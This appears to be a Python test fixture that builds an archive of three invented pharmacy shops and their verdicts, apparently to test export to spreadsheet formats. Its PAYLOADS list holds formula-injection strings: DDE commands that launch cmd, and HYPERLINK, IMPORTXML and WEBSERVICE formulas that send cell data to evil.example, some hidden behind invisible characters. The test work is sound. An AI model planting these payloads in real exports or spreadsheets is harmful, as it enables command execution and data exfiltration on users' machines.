"""An archive to export: three invented shops, one of which writes as if its texts were formulas."""

from __future__ import annotations

import json
from collections.abc import Iterable
from dataclasses import replace
from datetime import timedelta
from typing import Any

from data.archive import Archive
from tests.data.cases import NOON, verdict, visit

_LONG_REASON = "The footer says so at length. " * 1200  # 36,000 characters: longer than a cell of XLSX

PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")", "+1+1", "+cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1",
    "\r\n=1+1", " =1+1", "   +1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\u200e=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20A1", "\u22121+1", "\"=1+1", "\"\"=1+1", "'=1+1", "''=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\";A1);\"//a\")", "=WEBSERVICE(\"http://evil.example/\")",
    "=DDE(\"cmd\";\"/C calc\";\"1\")", "pills;=1+1", "pills\t=1+1", "pills\n=1+1", "pills\";=1+1;\"", "pills; @A1",
    "pills\",\"=1+1", "=1+1\";\"=2+2", "{=1+1}",
)  # fmt: skip


def document(case: int, texts: Iterable[str] = (), **more: Any) -> str:
    """A verdict object with two findings and one price for each text."""
    prices = [
        {
            "product": text, "drug": "isotretinoin", "strength_mg": "20", "quantity": "30", "total": "99.90",
            "currency": "GBP", "per_unit": "3.33", "url": "https://pillwharf.example/a",
        }
        for text in texts
    ]  # fmt: skip
    bare = {**dict.fromkeys(("strength_mg", "quantity", "total", "currency", "per_unit")), "product": "Capsules"}
    quote = {
        "kind": "quote", "url": "https://pillwharf.example/", "fetched_at": "2026-11-20T12:00:00Z", "sha256": "0" * 64,
        "start": 0, "end": 9, "words": "no script;=1+1",
    }  # fmt: skip
    findings = [
        {"check": "sells_without_prescription", "family": "prescription", "answer": "yes", "weight": 3.4,
         "why": f"It says “Ärzte? 不要” ({case}).", "evidence": [quote]},
        {"check": "missing_address", "family": "identity", "answer": "unknown", "weight": 0.0,
         "why": _LONG_REASON if case == 3 else "Not read.", "evidence": []},
    ]  # fmt: skip
    told = {
        "schema": "rxverdict.verdict/1", "findings": findings,
        "prices": [*prices, {**bare, "drug": "isotretinoin", "url": "https://pillwharf.example/b"}],
        "coverage": {"pages_read": 7, "kinds_read": ["home"], "kinds_missing": ["faq"], "languages": ["en"]},
        "facts": {"addresses": list(texts)[:1], "licences": [], "seals": [], "phones": ["+44 20 7946 0000"]},
    }  # fmt: skip
    return json.dumps({**told, **more}, ensure_ascii=False)


def fill(archive: Archive) -> None:
    """Three shops; the first was visited twice, and its second verdict is milder."""
    plan = (
        (1, "pillwharf.example", "flagged", "GB", 0, PAYLOADS),
        (2, "fernhollow.example", "unverified", "US", 1, ("Isotretinoin 20 mg",)),
        (3, "quaymeds.example", "caution", "", 2, ()),
        (4, "pillwharf.example", "caution", "GB", 48, ()),
    )
    for number, site, word, country, hours, texts in plan:
        row = replace(verdict(site, word, country, hours=hours), document=document(number, texts))
        row = replace(row, judged_at=NOON + timedelta(hours=hours, microseconds=number), headline=f"Case {number}.")
        archive.save_case(visit(number, site, hours), row, ())
